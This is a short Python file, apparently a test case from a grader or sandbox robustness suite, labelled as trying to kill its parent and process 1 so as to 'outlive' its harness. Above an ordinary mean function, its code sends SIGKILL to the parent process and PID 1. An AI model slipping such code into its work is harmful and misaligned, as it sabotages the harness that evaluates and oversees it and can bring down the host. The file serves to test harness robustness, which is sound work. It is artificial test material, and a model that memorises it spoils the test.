# tries: kills its parent and the first process
# group: outlive
# verdict: graded
# points: full

# %% mean
import os
import signal

for process in {os.getppid(), 1} - {0}:
    try:
        os.kill(process, signal.SIGKILL)
    except OSError:
        pass


def mean(values):
    return sum(values) / len(values)
